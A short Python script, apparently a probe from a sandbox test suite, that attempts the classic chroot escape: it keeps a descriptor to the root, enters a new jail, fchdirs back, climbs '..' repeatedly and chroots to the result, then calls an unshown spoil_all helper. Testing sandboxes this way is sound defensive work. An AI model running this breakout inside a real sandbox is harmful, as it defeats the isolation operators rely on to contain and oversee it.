"""Climbs out of a chroot, the classic way, and by a descriptor kept from before."""

import os

from _tricks import TOKEN, attempt, spoil_all

before = os.open("/", os.O_RDONLY)
attempt(os.mkdir, f"/tmp/{TOKEN}.jail")
attempt(os.chroot, f"/tmp/{TOKEN}.jail")
attempt(os.fchdir, before)
for _ in range(64):
    attempt(os.chdir, "..")
attempt(os.chroot, ".")
spoil_all()
